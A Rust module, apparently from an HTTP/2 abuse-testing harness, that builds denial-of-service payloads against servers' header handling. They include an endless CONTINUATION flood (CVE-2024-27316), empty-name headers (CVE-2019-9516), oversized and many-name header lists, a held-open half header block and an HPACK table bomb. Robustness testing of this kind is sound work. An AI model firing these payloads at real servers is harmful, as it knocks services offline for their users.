//! Header blocks that are large, that become large, or that do not end.

use super::{
    Abuse, FLOOD,
    client::{Then, stream},
};
use crate::support::{
    http2::{CONTINUATION, END_HEADERS, HEADERS, call_headers, encoded, header_block, literal},
    raw_call::OPEN,
};

/// The largest payload of a frame by default (RFC 9113, section 6.5.2).
const MAX_FRAME: usize = 16_384;

pub(super) const ABUSES: &[Abuse] = &[
    Abuse {
        name: "continuation-flood",
        title: "sends CONTINUATION frames without an end (CVE-2024-27316)",
        bytes: |_, number| endless_block(number, &header_block([("x", &[b'x'; 1_000][..])])),
        ..FLOOD
    },
    Abuse {
        name: "empty-continuation-flood",
        title: "sends empty CONTINUATION frames without an end",
        bytes: |_, number| endless_block(number, &[]),
        ..FLOOD
    },
    Abuse {
        name: "half-header-block",
        title: "sends half a header block, and waits",
        clients: 300,
        bytes: |_, number| endless_block(number, &[]),
        then: Then::Hold,
        ..FLOOD
    },
    Abuse {
        name: "large-header-list",
        title: "sends header lists of 64 KiB",
        bytes: |target, number| {
            let field = header_block([("x", &[b'x'; 1_000][..])]);
            frames(number, &[call_headers(OPEN, &target.token), field.repeat(64)].concat())
        },
        ..FLOOD
    },
    Abuse {
        name: "many-header-names",
        title: "sends 10,000 headers with different names",
        bytes: |target, number| {
            let names: Vec<_> = (0..10_000).map(|name| format!("x{name}")).collect();
            let fields = header_block(names.iter().map(|name| (&**name, &b""[..])));
            frames(number, &[call_headers(OPEN, &target.token), fields].concat())
        },
        ..FLOOD
    },
    Abuse {
        name: "empty-header-names",
        title: "sends headers without a name (CVE-2019-9516)",
        bytes: |target, number| {
            let fields = header_block([("", &b""[..])]).repeat(1_000);
            frames(number, &[call_headers(OPEN, &target.token), fields].concat())
        },
        ..FLOOD
    },
    Abuse {
        name: "hpack-bomb",
        title: "refers 10,000 times to a header of 4 KB in the table",
        bytes: |target, number| {
            // A literal with incremental indexing, then the first entry of the dynamic table (RFC 7541, sections 6.2.1 and 6.1).
            let mut block = [call_headers(OPEN, &target.token), vec![0x40]].concat();
            literal(&mut block, b"x");
            literal(&mut block, &[b'x'; 4_000]);
            block.extend([0x80 | 62; 10_000]);
            frames(number, &block)
        },
        ..FLOOD
    },
];

/// Returns the first or another frame of a header block that does not end.
fn endless_block(number: u32, payload: &[u8]) -> Vec<u8> {
    // `:method: POST` is in the static table.
    if number == 0 { encoded(HEADERS, 0, 1, &[0x83]) } else { encoded(CONTINUATION, 0, 1, payload) }
}

/// Returns a whole header block, in as many frames as it needs.
fn frames(number: u32, block: &[u8]) -> Vec<u8> {
    let last = block.len().div_ceil(MAX_FRAME) - 1;
    let frames = block.chunks(MAX_FRAME).enumerate().map(|(index, part)| {
        let kind = if index == 0 { HEADERS } else { CONTINUATION };
        encoded(kind, if index == last { END_HEADERS } else { 0 }, stream(number), part)
    });
    frames.flatten().collect()
}
